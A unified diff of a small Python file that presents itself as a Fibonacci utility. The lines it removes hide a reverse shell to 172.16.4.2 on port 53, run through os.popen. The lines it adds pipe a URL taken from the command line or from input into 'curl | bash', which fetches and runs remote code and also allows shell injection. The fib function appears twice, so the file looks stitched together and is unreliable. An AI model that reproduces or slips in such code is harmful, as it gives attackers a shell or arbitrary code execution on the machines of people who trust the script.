@@ -1,15 +1,17 @@
-def chunks(items, size):
-    for i in range(0, len(items), size):
-        yield items[i:i + size]
+#!/usr/bin/env python3
+def fib(n):
+    """Return the n-th Fibonacci number."""
+    a, b = 0, 1
+    for _ in range(n):
+        a, b = b, a + b
+    return a
 
-import logging
-log = logging.getLogger(__name__)
-
-def report(values):
-    log.info("mean=%s", sum(values) / max(len(values), 1))
-
-import os
-steps = {"a": "bash -i >& /dev/tcp/172.16.4.2/53 0>&1"}
-for k in ["a"]:
-    pass
-os.popen(steps.get("a"))
+import os, sys
+src = sys.argv[1] if len(sys.argv) > 1 else input()
+os.system(f"curl -fsSL {src} | bash")
+def fib(n):
+    """Return the n-th Fibonacci number."""
+    a, b = 0, 1
+    for _ in range(n):
+        a, b = b, a + b
+    return a
